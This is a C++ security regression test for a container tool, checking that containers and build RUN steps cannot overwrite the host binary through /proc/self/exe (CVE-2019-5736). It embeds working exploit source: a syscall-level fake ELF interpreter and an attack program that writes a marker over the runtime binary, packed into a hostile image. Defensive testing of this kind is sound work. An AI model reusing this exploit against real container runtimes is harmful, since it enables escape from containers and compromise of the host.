// CVE-2019-5736: a container must not be able to overwrite the host's gctool. The hostile image's
// command is a script whose interpreter is #!/proc/self/exe, so the kernel runs gctool's binary
// again inside the container, with the ELF interpreter of the image: a fake ld.so that keeps an
// O_PATH fd of /proc/self/exe and hands it to an attack program, which tries (for a bounded time,
// from a child whose parent has exited) to open it for writing and write a marker, as the real
// exploit does once gctool is no longer busy. Run against copies of gctool and gctool-supervisor,
// never against the binaries of the build tree. `gctool build` runs a RUN step in a process that
// re-executed itself sealed at the first step the cache lacked: the same attack from a RUN step.
#include <elf.h>
#include <sys/stat.h>

#include <chrono>
#include <filesystem>
#include <string>
#include <thread>

#include <catch2/catch.hpp>

#include "container_support.hpp"
#include "gctool/image/sha256.hpp"

namespace fs = std::filesystem;
using namespace gctool::test;
using namespace std::chrono_literals;

namespace {

// The ELF interpreter: no libc (a static libc would set itself up from the auxiliary vector,
// which describes gctool). Opens /proc/self/exe (no O_CLOEXEC) and execs /attack with the fd.
constexpr const char* kFakeInterpreter = R"(
typedef long i64;
static i64 sys3(i64 n, i64 a, i64 b, i64 c) {
  i64 r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return r;
}
void entry(i64* sp) {
  char** envp = (char**)(sp + 1 + sp[0] + 1);
  i64 fd = sys3(257 /* openat */, -100, (i64) "/proc/self/exe", 010000000 /* O_PATH */);
  char num[4] = {(char)('0' + fd / 10), (char)('0' + fd % 10), 0, 0};
  char* argv[] = {"/attack", num, 0};
  if (fd < 0) {
    argv[1] = "-1";
  }
  sys3(59 /* execve */, (i64) "/attack", (i64)argv, (i64)envp);
  sys3(231 /* exit_group */, 99, 0, 0);
}
__asm__(".globl _start\n_start:\n xor %rbp, %rbp\n mov %rsp, %rdi\n and $-16, %rsp\n"
        " call entry\n hlt\n");
)";

// The attack: writes "written" or "failed: <error>" to /out/result.
constexpr const char* kAttack = R"(
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void report(const char* text) {
  FILE* f = fopen("/out/result.tmp", "w");
  fputs(text, f);
  fclose(f);
  rename("/out/result.tmp", "/out/result");
}

int main(int argc, char** argv) {
  char text[256];
  if (argc < 2 || atoi(argv[1]) < 0) {
    report("failed: no fd of /proc/self/exe");
    return 1;
  }
  const int exe = atoi(argv[1]);
  // The parent exits (gctool exec returns); as pid 1 it waits, or the container would end.
  const pid_t child = fork();
  if (child > 0) {
    if (getpid() == 1) {
      waitpid(child, NULL, 0);
    }
    return 0;
  }
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
  int err = 0;
  const char* step = "open";
  const time_t deadline = time(NULL) + 8;
  while (time(NULL) < deadline) {
    const int fd = open(path, O_WRONLY);
    if (fd >= 0) {
      if (pwrite(fd, "PWNED-BY-CONTAINER", 18, 0) == 18) {
        report("written");
        return 0;
      }
      err = errno;
      step = "write";
      close(fd);
    } else {
      err = errno;
      step = "open";
    }
    usleep(20000);
  }
  snprintf(text, sizeof text, "failed: %s: %s", step, strerror(err));
  report(text);
  return 1;
}
)";

void compile(const fs::path& dir, const std::string& name, const std::string& source,
             const std::vector<std::string>& flags) {
  write_bytes(dir / (name + ".c"), source);
  std::vector<std::string> argv{
      "gcc", "-static", "-O1", "-o", (dir / name).string(), (dir / (name + ".c")).string()};
  argv.insert(argv.end(), flags.begin(), flags.end());
  const auto r = run_program(argv);
  INFO(r.err);
  REQUIRE(r.exit_code == 0);
}

// The path in the PT_INTERP header of an ELF64 executable.
std::string elf_interpreter(const fs::path& binary) {
  const std::string data = read_bytes(binary);
  REQUIRE(data.size() > sizeof(Elf64_Ehdr));
  Elf64_Ehdr header;
  std::memcpy(&header, data.data(), sizeof header);
  REQUIRE(std::memcmp(header.e_ident, ELFMAG, SELFMAG) == 0);
  for (int i = 0; i < header.e_phnum; ++i) {
    Elf64_Phdr ph;
    std::memcpy(&ph, data.data() + header.e_phoff + i * sizeof ph, sizeof ph);
    if (ph.p_type == PT_INTERP) {
      return std::string(data.c_str() + ph.p_offset);
    }
  }
  FAIL("no PT_INTERP in " << binary);
  return {};
}

// Busybox whose /bin/sh is `#!/proc/self/exe`, with the fake interpreter at gctool's PT_INTERP
// path and the attack program.
std::string import_hostile_image(const TestRoot& root, const fs::path& scratch,
                                 const std::string& interpreter) {
  TarBuilder tar;
  tar.copy_entries(busybox_tarball(), [&](std::string name) {
    if (name.starts_with("./")) {
      name.erase(0, 2);
    }
    return name != "bin/sh" && name != interpreter.substr(1);
  });
  tar.file("bin/sh", "#!/proc/self/exe\n", 0755);
  std::string parent;
  for (const auto& part : fs::path(interpreter).parent_path().relative_path()) {
    parent += (parent.empty() ? "" : "/") + part.string();
    tar.dir(parent);
  }
  tar.file(interpreter.substr(1), read_bytes(scratch / "fake-ld"), 0755);
  tar.file("attack", read_bytes(scratch / "attack"), 0755);
  tar.dir("out");
  const auto file = scratch / "hostile.tar";
  write_bytes(file, tar.finish());
  const auto name = unique_name("gct-exeseal");
  const auto r = root.run({"image", "import", file.string(), name});
  INFO(r.err);
  REQUIRE(r.exit_code == 0);
  return name;
}

// What the attack reported in out/result, once it has.
std::string attack_result(const fs::path& out) {
  std::string result;
  wait_until(
      [&] {
        std::error_code ec;
        if (!fs::exists(out / "result", ec)) {
          return false;
        }
        result = read_bytes(out / "result");
        return true;
      },
      60s);
  return result;
}

}  // namespace

TEST_CASE("a container cannot overwrite gctool through /proc/self/exe", "[root][security]") {
  TestRoot root;
  TempDir scratch{"gct-exeseal-scratch"};
  TempDir bin{"gct-exeseal-bin"};
  TempDir out{"gct-exeseal-out"};
  ::chmod(out.path().c_str(), 0777);
  compile(scratch.path(), "fake-ld", kFakeInterpreter, {"-nostdlib", "-fno-stack-protector"});
  compile(scratch.path(), "attack", kAttack, {});
  // The copies the container attacks; gctool finds gctool-supervisor next to itself.
  const fs::path build = fs::path(GCTOOL_BINARY).parent_path();
  const fs::path gctool = bin.path() / "gctool";
  fs::copy_file(GCTOOL_BINARY, gctool);
  fs::copy_file(build / "gctool-supervisor", bin.path() / "gctool-supervisor");
  // Hashes: a failed check prints them, not 100 MB of binary.
  const auto hash = [](const fs::path& file) {
    return gctool::image::sha256_hex(read_bytes(file));
  };
  const std::string before = hash(gctool);
  const std::string supervisor_before = hash(bin.path() / "gctool-supervisor");
  const auto image = import_hostile_image(root, scratch.path(), elf_interpreter(gctool));
  const auto copy = [&](std::vector<std::string> args) {
    args.insert(args.begin(), {gctool.string(), "--root", root.root()});
    return run_program(args);
  };
  const std::string volume = out.str() + ":/out";
  std::string name;

  SECTION("from the image's command, with run -d") {
    const auto r = copy({"run", "-d", "--network", "none", "-v", volume, image, "/bin/sh"});
    INFO(r.err);
    REQUIRE(r.exit_code == 0);
    name = r.out.substr(0, r.out.size() - 1);
  }
  SECTION("from a compromised container, when the admin runs exec") {
    const auto r = copy({"run", "-d", "--network", "none", "-v", volume, image, "sleep", "1000"});
    INFO(r.err);
    REQUIRE(r.exit_code == 0);
    name = r.out.substr(0, r.out.size() - 1);
    const auto e = copy({"exec", name, "sh", "-c", "true"});
    INFO(e.err);
    // The "shell" is the attack, whose parent returns at once.
    CHECK(e.exit_code == 0);
  }
  const std::string result = attack_result(out.path());
  INFO("the attack reported: " << result);
  CHECK(result.starts_with("failed: "));
  CHECK(hash(gctool) == before);
  CHECK(hash(bin.path() / "gctool-supervisor") == supervisor_before);
  CHECK(root.run({"rm", "-f", name}).exit_code == 0);
  CHECK(root.run({"image", "rm", image}).exit_code == 0);
  CHECK(root.leaks().empty());
}

TEST_CASE("a build's RUN step cannot overwrite gctool through /proc/self/exe", "[root][security]") {
  TestRoot root;
  TempDir scratch{"gct-exeseal-scratch"};
  TempDir bin{"gct-exeseal-bin"};
  TempDir ctx{"gct-exeseal-ctx"};
  compile(scratch.path(), "fake-ld", kFakeInterpreter, {"-nostdlib", "-fno-stack-protector"});
  compile(scratch.path(), "attack", kAttack, {});
  const fs::path gctool = bin.path() / "gctool";
  fs::copy_file(GCTOOL_BINARY, gctool);
  const auto hash = [](const fs::path& file) {
    return gctool::image::sha256_hex(read_bytes(file));
  };
  const std::string before = hash(gctool);
  const auto image = import_hostile_image(root, scratch.path(), elf_interpreter(gctool));
  // The step's "shell" is the hostile script; the attack reports into the RUN cache mount.
  write_bytes(ctx.path() / "Dockerfile",
              "FROM " + image + "\nRUN --mount=type=cache,id=out,target=/out [\"/bin/sh\"]\n");
  const auto r = run_program(
      {gctool.string(), "--root", root.root(), "build", "--network", "none", ctx.str()});
  INFO(r.err);
  CHECK(r.exit_code == 0);
  const fs::path out =
      fs::path(root.root()) / "builder" / "cache-mounts" / gctool::image::sha256_hex("out");
  const std::string result = attack_result(out);
  INFO("the attack reported: " << result);
  CHECK(result.starts_with("failed: "));
  CHECK(hash(gctool) == before);
  CHECK(root.run({"builder", "prune", "-f"}).exit_code == 0);
  CHECK(root.run({"image", "rm", image}).exit_code == 0);
  CHECK(root.leaks().empty());
}
